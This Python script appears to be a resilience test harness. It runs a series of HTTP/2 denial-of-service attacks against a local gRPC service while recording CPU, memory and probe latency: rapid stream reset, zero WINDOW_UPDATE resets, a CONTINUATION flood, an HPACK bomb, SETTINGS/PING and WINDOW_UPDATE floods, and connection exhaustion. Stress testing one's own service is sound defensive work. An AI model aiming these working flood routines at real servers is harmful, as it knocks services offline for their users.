import sys, threading; import os; sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from h import *; from h2raw import *
s = Svc('/tmp/h40/d2')
P = s.gport
def probe_loop(stop, res):
    while not stop.is_set():
        res.append(s.probe()); time.sleep(0.5)
def run(name, fn):
    stop = threading.Event(); res = []; th = threading.Thread(target=probe_loop, args=(stop, res)); th.start()
    t = time.time(); cpu0 = open(f"/proc/{s.pid}/stat").read().split()[13:15]
    try: r = fn()
    except Exception as e: r = f"EXC {e}"
    dt = time.time() - t
    stop.set(); th.join()
    cpu1 = open(f"/proc/{s.pid}/stat").read().split()[13:15]
    cpu = sum(int(b) - int(a) for a, b in zip(cpu0, cpu1)) / 100
    worst = {p: max((x[p][1] for x in res), default=None) for p in ("/livez", "/readyz", "/v1/assurance")}
    bad = [x for x in res if any(v[0] != 200 for v in x.values())][:2]
    print(f"{name}: {r} t={dt:.1f}s cpu={cpu}s rss={s.rss()} probes={len(res)} worst_latency={worst} bad={bad}", flush=True)
def rapid_reset(n=100000):
    c = Conn(P); hb = grpc_headers(); batch = b""; sid = 1
    for i in range(n):
        batch += frame(HEADERS, 4, sid, hb) + frame(RST, 0, sid, struct.pack(">I", 8)); sid += 2
        if len(batch) > 1 << 16: c.send(batch); batch = b""
    c.send(batch); fr = c.read_frames(timeout=3); c.close(); return summarize(fr)
def rapid_reset_multi(nc=8, n=50000):
    out = []
    def one(): 
        try: out.append(rapid_reset(n))
        except Exception as e: out.append(str(e))
    ths = [threading.Thread(target=one) for _ in range(nc)]; [t.start() for t in ths]; [t.join() for t in ths]; return out[:2]
def continuation_flood(mb=200):
    c = Conn(P); sid = 1
    c.send(frame(HEADERS, 0, sid, grpc_headers()))
    chunk = frame(CONT, 0, sid, lit("x-a", "b" * 16000)[:16384])
    sent = 0
    try:
        while sent < mb << 20: c.send(chunk * 16); sent += len(chunk) * 16
    except Exception as e: return f"server closed after {sent>>20} MB: {e}"
    fr = c.read_frames(timeout=3); c.close(); return (sent >> 20, summarize(fr))
def hpack_bomb(nstreams=100):
    c = Conn(P); sid = 1; big = lit("x-big", "v" * 4000, index=True)
    out = b""
    for i in range(nstreams):
        blk = grpc_headers() + (big if i == 0 else b"") + b"\xbe" * 16000  # idx 62 referenced repeatedly
        out += frame(HEADERS, 4, sid, blk[:16384]); sid += 2
    c.send(out); fr = c.read_frames(timeout=3); c.close(); return summarize(fr)
def settings_ping_flood(n=200000):
    c = Conn(P); b = (settings(((4, 65535), (3, 100))) + frame(PING, 0, 0, b"12345678")) * 1000
    sent = 0
    try:
        for i in range(n // 1000): c.send(b); sent += 1000
    except Exception as e: return f"closed after {sent}: {e}"
    time.sleep(1); c.close(); return sent
def many_conns_streams_unread(nc=200, ns=100):
    cs = []
    for i in range(nc):
        try:
            c = Conn(P, init=((4, 0),)); c.send(b"".join(frame(HEADERS, 4, 1 + 2 * j, grpc_headers()) for j in range(ns))); cs.append(c)
        except Exception as e: break
    time.sleep(5); r = (len(cs), s.rss())
    for c in cs: c.close()
    return r
def window_update_flood(n=300000):
    c = Conn(P); b = frame(WU, 0, 0, struct.pack(">I", 1)) * 2000; sent = 0
    try:
        for i in range(n // 2000): c.send(b); sent += 2000
    except Exception as e: return f"closed after {sent}: {e}"
    fr = c.read_frames(timeout=2); c.close(); return summarize(fr)
def zero_wu_on_streams(n=50000):
    # MadeYouReset-style: server-side resets caused by protocol errors on open streams
    c = Conn(P); hb = grpc_headers(); batch = b""; sid = 1
    for i in range(n):
        batch += frame(HEADERS, 4, sid, hb) + frame(WU, 0, sid, struct.pack(">I", 0)); sid += 2
        if len(batch) > 1 << 16:
            try: c.send(batch)
            except Exception as e: return f"closed at stream {i}: {e}"
            batch = b""
    fr = c.read_frames(timeout=3); c.close(); return summarize(fr)
run("rapid reset 100k streams, 1 conn, no token", rapid_reset)
run("rapid reset 8 conns x 50k, no token", rapid_reset_multi)
run("zero WINDOW_UPDATE per stream 50k (MadeYouReset)", zero_wu_on_streams)
run("CONTINUATION flood 200MB", continuation_flood)
run("HPACK bomb 100 streams x 16k refs of 4KB", hpack_bomb)
run("SETTINGS+PING flood 200k unread", settings_ping_flood)
run("WINDOW_UPDATE flood (overflow)", window_update_flood)
run("200 conns x 100 streams, window 0, unread", many_conns_streams_unread)
print("final", s.rss(), s.probe())
print(s.log()[-1500:])
print("exit", s.term())
